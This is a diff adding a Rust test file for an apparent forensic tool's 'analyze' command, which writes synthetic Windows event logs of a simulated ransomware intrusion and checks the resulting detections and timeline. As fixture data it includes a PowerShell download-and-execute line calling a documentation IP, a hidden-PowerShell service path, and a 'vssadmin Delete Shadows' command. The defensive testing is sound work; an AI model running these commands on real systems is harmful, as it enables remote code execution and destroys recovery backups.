@@ -1,0 +1,263 @@
+//! `shodo analyze`: event logs the tests write as real EVTX files (see `evtx_writer`), collected
+//! and analyzed: each detection with a positive and a negative case, a corrupt log, the timeline,
+//! and findings.jsonl shared with the scan.
+
+use std::fs;
+use std::path::Path;
+
+use serde_json::Value;
+
+use crate::evtx_writer::{Event, evtx};
+use crate::helpers::{shodo, verify};
+
+const SEC: &str = "Security";
+const LOGS: &str = "Windows/System32/winevt/Logs";
+
+fn sec(id: u32, time: &str) -> Event {
+    Event::new(SEC, "Microsoft-Windows-Security-Auditing", id, time)
+}
+
+fn write(root: &Path, rel: &str, bytes: &[u8]) {
+    let p = root.join(rel);
+    fs::create_dir_all(p.parent().unwrap()).unwrap();
+    fs::write(p, bytes).unwrap();
+}
+
+fn security_log() -> Vec<u8> {
+    let mut events = Vec::new();
+    // A burst of failures from outside, then the attacker's RDP logon, then a quiet local failure.
+    for i in 0..12 {
+        events.push(
+            sec(4625, &format!("2024-05-01T01:00:{:02}Z", i * 4))
+                .data("TargetUserName", "administrator")
+                .data("IpAddress", "203.0.113.9")
+                .data("LogonType", "3"),
+        );
+    }
+    events.push(sec(4625, "2024-05-01T08:00:00Z").data("TargetUserName", "yamada").data("IpAddress", "10.0.0.5"));
+    events.push(
+        sec(4624, "2024-05-01T01:05:00Z")
+            .data("TargetUserName", "administrator")
+            .data("TargetDomainName", "HOSP")
+            .data("LogonType", "10")
+            .data("IpAddress", "203.0.113.9"),
+    );
+    events.push(
+        sec(4624, "2024-05-01T00:30:00Z")
+            .data("TargetUserName", "nurse01")
+            .data("TargetDomainName", "HOSP")
+            .data("LogonType", "3")
+            .data("IpAddress", "192.168.10.21"),
+    );
+    events.push(
+        sec(4720, "2024-05-01T01:10:00Z").data("TargetUserName", "supp0rt").data("SubjectUserName", "administrator"),
+    );
+    events.push(
+        sec(4732, "2024-05-01T01:11:00Z")
+            .data("TargetUserName", "Administrators")
+            .data("TargetSid", "S-1-5-32-544")
+            .data("MemberSid", "S-1-5-21-1-2-3-1010")
+            .data("SubjectUserName", "administrator"),
+    );
+    events.push(
+        sec(4732, "2024-05-01T01:12:00Z")
+            .data("TargetUserName", "Print Operators")
+            .data("TargetSid", "S-1-5-32-550")
+            .data("MemberSid", "S-1-5-21-1-2-3-1011"),
+    );
+    events.push(
+        sec(4688, "2024-05-01T01:20:00Z")
+            .data("NewProcessName", "C:\\Windows\\System32\\vssadmin.exe")
+            .data("CommandLine", "vssadmin.exe Delete Shadows /all /quiet")
+            .data("SubjectUserName", "supp0rt"),
+    );
+    events.push(
+        sec(4688, "2024-05-01T01:21:00Z")
+            .data("NewProcessName", "C:\\Windows\\System32\\vssadmin.exe")
+            .data("CommandLine", "vssadmin.exe list shadows"),
+    );
+    events.push(
+        Event::new(SEC, "Microsoft-Windows-Eventlog", 1102, "2024-05-01T01:30:00Z")
+            .user_data("LogFileCleared", &[("SubjectUserName", "supp0rt")]),
+    );
+    evtx(&events)
+}
+
+fn source(dir: &Path) {
+    write(dir, "Windows/System32/config/SYSTEM", b"regf");
+    write(dir, &format!("{LOGS}/Security.evtx"), &security_log());
+    let scm = |id, t| Event::new("System", "Service Control Manager", id, t);
+    write(
+        dir,
+        &format!("{LOGS}/System.evtx"),
+        &evtx(&[
+            scm(7045, "2024-05-01T01:15:00Z")
+                .data("ServiceName", "svcupd")
+                .data("ImagePath", "%COMSPEC% /C powershell -nop -w hidden -c \"iex(new-object net.webclient)\""),
+            scm(7045, "2024-04-02T09:00:00Z")
+                .data("ServiceName", "Vendor Print Spooler")
+                .data("ImagePath", "\"C:\\Program Files\\Vendor\\spool.exe\""),
+        ]),
+    );
+    let ps = |t| Event::new("Microsoft-Windows-PowerShell/Operational", "Microsoft-Windows-PowerShell", 4104, t);
+    write(
+        dir,
+        &format!("{LOGS}/Microsoft-Windows-PowerShell%4Operational.evtx"),
+        &evtx(&[
+            ps("2024-05-01T01:16:00Z")
+                .data("ScriptBlockText", "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.3/a')"),
+            ps("2024-05-01T07:00:00Z").data("ScriptBlockText", "Get-ChildItem C:\\Users | Measure-Object"),
+        ]),
+    );
+    let rcm = "Microsoft-Windows-TerminalServices-RemoteConnectionManager/Operational";
+    write(
+        dir,
+        &format!("{LOGS}/{}.evtx", rcm.replace('/', "%4")),
+        &evtx(&[Event::new(
+            rcm,
+            "Microsoft-Windows-TerminalServices-RemoteConnectionManager",
+            1149,
+            "2024-05-01T01:04:58Z",
+        )
+        .user_data("EventXML", &[("Param1", "administrator"), ("Param2", "HOSP"), ("Param3", "203.0.113.9")])]),
+    );
+    let def = "Microsoft-Windows-Windows Defender/Operational";
+    write(
+        dir,
+        &format!("{LOGS}/{}.evtx", def.replace('/', "%4")),
+        &evtx(&[
+            Event::new(def, "Microsoft-Windows-Windows Defender", 1116, "2024-05-01T01:17:00Z")
+                .data("Threat Name", "HackTool:Win32/Mimikatz")
+                .data("Path", "file:_C:\\Users\\Public\\m.exe"),
+            Event::new(def, "Microsoft-Windows-Windows Defender", 5001, "2024-05-01T01:18:00Z"),
+        ]),
+    );
+    // A corrupt log: a good header, then a chunk of garbage and a torn one.
+    let mut broken = evtx(&[sec(4624, "2024-05-01T00:00:00Z")]);
+    broken.extend(std::iter::repeat_n(0x5Au8, 65536));
+    broken.extend(b"ElfChnk\0torn");
+    write(dir, &format!("{LOGS}/Application.evtx"), &broken);
+}
+
+fn analyze(case: &Path, endpoint: &str) -> (i32, Value) {
+    let out = shodo().args(["analyze", "--json", "--endpoint", endpoint, "--case"]).arg(case).output().unwrap();
+    let json =
+        serde_json::from_slice(&out.stdout).unwrap_or_else(|_| panic!("{}", String::from_utf8_lossy(&out.stderr)));
+    (out.status.code().unwrap(), json)
+}
+
+fn records(case: &Path, endpoint: &str) -> Vec<Value> {
+    let text = fs::read_to_string(case.join("endpoints").join(endpoint).join("findings.jsonl")).unwrap();
+    text.lines().map(|l| serde_json::from_str(l).unwrap()).collect()
+}
+
+#[test]
+fn event_logs_become_detections_and_a_timeline() {
+    let tmp = tempfile::tempdir().unwrap();
+    let src = tmp.path().join("src");
+    source(&src);
+    write(&src, "Users/a/Desktop/README.txt", b"Your files have been encrypted. To decrypt them pay in bitcoin.\n");
+    let case = tmp.path().join("case");
+    shodo().args(["case", "init", "--case"]).arg(&case).assert().success();
+    shodo().args(["collect", "--endpoint", "pc-40", "--case"]).arg(&case).arg("--source").arg(&src).assert().code(0);
+    shodo().args(["scan", "--no-volume", "--endpoint", "pc-40", "--case"]).arg(&case).assert().code(1);
+    let (code, result) = analyze(&case, "pc-40");
+    assert_eq!(code, 1, "high detections mean exit 1: {result}");
+
+    let recs = records(&case, "pc-40");
+    let det = |rule: &str| -> Vec<Value> {
+        recs.iter().filter(|r| r["kind"] == "event_detection" && r["rule"] == rule).cloned().collect()
+    };
+    let one = |rule: &str| -> Value {
+        let d = det(rule);
+        assert_eq!(d.len(), 1, "{rule}: {d:?}");
+        d[0].clone()
+    };
+    let bf = one("brute_force");
+    assert_eq!((bf["fields"]["source"].as_str(), bf["severity"].as_str()), (Some("203.0.113.9"), Some("critical")));
+    assert_eq!(bf["fields"]["burst"]["failures"], 12);
+    let first = one("first_external_logon");
+    assert_eq!(first["time"], "2024-05-01T01:04:58.000000Z", "the RDP authentication came first: {first}");
+    assert_eq!(first["fields"]["address"], "203.0.113.9");
+    assert_eq!(one("account_created")["fields"]["account"], "supp0rt");
+    assert_eq!(one("admin_group_member_added")["fields"]["group"], "Administrators");
+    assert_eq!(one("group_member_added")["severity"], "low", "a non-privileged group is not high");
+    let vss = one("command_shadow_copy_deletion");
+    assert_eq!(vss["fields"]["command_line"], "vssadmin.exe Delete Shadows /all /quiet");
+    assert_eq!(one("log_cleared")["fields"]["by"], "supp0rt");
+    let services = det("service_installed");
+    let sev = |name: &str| services.iter().find(|s| s["fields"]["service"] == name).map(|s| s["severity"].clone());
+    assert_eq!((sev("svcupd"), sev("Vendor Print Spooler")), (Some("high".into()), Some("medium".into())));
+    assert_eq!(one("script_download_and_run")["time"], "2024-05-01T01:16:00.000000Z");
+    assert_eq!(det("script_download_and_run").len(), 1, "the benign script block raises nothing");
+    assert_eq!(one("defender_detection")["fields"]["threat"], "HackTool:Win32/Mimikatz");
+    one("defender_disabled");
+    let rdp = one("rdp_authenticated");
+    assert_eq!(rdp["fields"]["account"], "HOSP\\administrator");
+    let remote = det("remote_logon");
+    assert_eq!(remote.len(), 2);
+    assert!(remote.iter().any(|r| r["fields"]["address"] == "192.168.10.21" && r["severity"] == "low"));
+
+    let logs: Vec<&Value> = recs.iter().filter(|r| r["kind"] == "event_log").collect();
+    assert_eq!(logs.len(), 6);
+    let app = logs.iter().find(|l| l["path"].as_str().unwrap().ends_with("Application.evtx")).unwrap();
+    assert_eq!(app["records"], 1, "what could be parsed was: {app}");
+    assert!(app["problems"].as_u64().unwrap() >= 2, "{app}");
+    let security = logs.iter().find(|l| l["path"].as_str().unwrap().ends_with("Security.evtx")).unwrap();
+    assert_eq!(security["counts"]["Security"]["4625"], 13);
+    assert_eq!(security["problems"], 0);
+
+    assert!(recs.iter().any(|r| r["kind"] == "yara" && r["by"] == "scan"), "the scan's findings are kept");
+    shodo().args(["scan", "--no-volume", "--endpoint", "pc-40", "--case"]).arg(&case).assert().code(1);
+    assert_eq!(
+        records(&case, "pc-40").iter().filter(|r| r["by"] == "analyze").count(),
+        recs.iter().filter(|r| r["by"] == "analyze").count(),
+        "a new scan keeps the analysis"
+    );
+
+    let dir = case.join("endpoints/pc-40");
+    let timeline: Vec<Value> = fs::read_to_string(dir.join("timeline.jsonl"))
+        .unwrap()
+        .lines()
+        .map(|l| serde_json::from_str(l).unwrap())
+        .collect();
+    assert!(timeline.windows(2).all(|w| w[0]["datetime"].as_str() <= w[1]["datetime"].as_str()));
+    assert!(
+        timeline
+            .iter()
+            .all(|e| e["datetime"].is_string() && e["timestamp_desc"].is_string() && e["message"].is_string())
+    );
+    assert!(timeline.iter().any(|e| e["source"] == "file" && e["evidence"] == "Users/a/Desktop/README.txt"));
+    let csv = fs::read_to_string(dir.join("timeline.csv")).unwrap();
+    assert!(csv.starts_with("datetime,timestamp,timestamp_desc,message,"));
+    assert_eq!(csv.lines().count(), timeline.len() + 1);
+    assert_eq!(verify(&case).0, 0, "the analysis is on the record");
+}
+
+#[test]
+fn a_changed_log_archive_is_not_analyzed_as_evidence() {
+    let tmp = tempfile::tempdir().unwrap();
+    let src = tmp.path().join("src");
+    write(&src, "Windows/System32/config/SYSTEM", b"regf");
+    write(&src, &format!("{LOGS}/Security.evtx"), &security_log());
+    let case = tmp.path().join("case");
+    shodo().args(["case", "init", "--case"]).arg(&case).assert().success();
+    shodo().args(["collect", "--endpoint", "pc-41", "--case"]).arg(&case).arg("--source").arg(&src).assert().code(0);
+    let rows = fs::read_to_string(case.join("endpoints/pc-41/manifest.jsonl")).unwrap();
+    let row: Value = rows
+        .lines()
+        .map(|l| serde_json::from_str::<Value>(l).unwrap())
+        .find(|r| r["path"].as_str().unwrap().ends_with("Security.evtx"))
+        .unwrap();
+    // Entries are stored: change one byte of the log inside the archive.
+    let zip = case.join("endpoints/pc-41").join(row["zip"].as_str().unwrap());
+    let mut bytes = fs::read(&zip).unwrap();
+    let at = bytes.windows(8).position(|w| w == b"ElfChnk\0").unwrap() + 600;
+    bytes[at] ^= 0xFF;
+    fs::write(&zip, bytes).unwrap();
+    let (_, result) = analyze(&case, "pc-41");
+    let log = &result["logs"][0];
+    assert!(log["evidence_mismatch"].is_string(), "{log}");
+    assert_eq!(log["detections"], 0);
+    assert!(records(&case, "pc-41").iter().all(|r| r["kind"] != "event_detection"));
+}
